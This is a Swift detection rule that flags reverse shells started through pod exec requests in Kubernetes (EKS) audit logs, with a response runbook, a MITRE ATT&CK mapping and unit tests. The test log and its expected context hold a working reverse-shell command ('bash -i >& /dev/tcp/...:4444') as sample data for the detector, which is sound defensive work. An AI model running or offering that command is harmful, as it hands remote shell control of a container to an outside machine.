import MargayKit

/// Finds commands run in pods that hand a shell to another machine: the request holds each argument as a parameter.
struct ReverseShellFromPod: Rule, Equatable {
  let id = "EKS.ReverseShellFromPod"
  let place: CodePlace? = .here()
  let logTypes = [EKSAudit.logType]
  let displayName: String? = "Reverse shell started in a pod"
  let severity = Severity.critical
  let description = "A command was run in a pod that connects a shell to another machine."
  let reference =
    "https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/"
  let runbook =
    "1. Isolate the pod and keep its disk.\n2. Revoke the user's access.\n3. Where did it connect to, and what else did that address do?"
  let tags = ["Kubernetes", "AWS", "Execution"]
  let reports = [ReportMapping(framework: "MITRE ATT&CK", values: ["TA0002:T1609"])]

  func matches(_ event: Event) -> Bool {
    guard event["objectRef", "resource"] == "pods", event["objectRef", "subresource"] == "exec"
    else { return false }
    return ShellCommand.isReverseShell(Text(command(event)))
  }

  private func command(_ event: Event) -> String {
    guard let target = event["requestURI"].text else { return "" }
    return RequestTarget(target).values("command").map(\.string).joined(separator: " ")
  }

  func title(_ event: Event) -> String? {
    "\(event.shown("user.username")) started a reverse shell in \(event.shown("objectRef.name"))"
  }

  func alertContext(_ event: Event) -> AlertContext {
    ["command": command(event), "addresses": event["sourceIPs"]]
  }

  private static let log = TestLog(
    """
    {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "stage": "ResponseStarted", "verb": "create",
     "requestReceivedTimestamp": "2026-03-02T09:00:00Z", "user": {"username": "dev@example.com"},
     "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "tool"},
     "sourceIPs": ["192.31.196.20"],
     "requestURI": "/api/v1/namespaces/shop/pods/tool/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F192.31.196.20%2F4444&stdin=true"}
    """)

  var tests: [RuleTest] {
    [
      RuleTest(
        "shell over the network", matches: true, Self.log,
        title: "dev@example.com started a reverse shell in tool",
        context: [
          "command": "bash -c bash -i >& /dev/tcp/192.31.196.20/4444",
          "addresses": ["192.31.196.20"],
        ]),
      RuleTest(
        "list of files", matches: false,
        Self.log.with(
          "requestURI", "/api/v1/namespaces/shop/pods/tool/exec?command=ls&command=/dev/tcp2")),
      RuleTest("logs", matches: false, Self.log.with("objectRef.subresource", "log")),
      RuleTest("no request", matches: false, Self.log.without("requestURI")),
    ]
  }
}
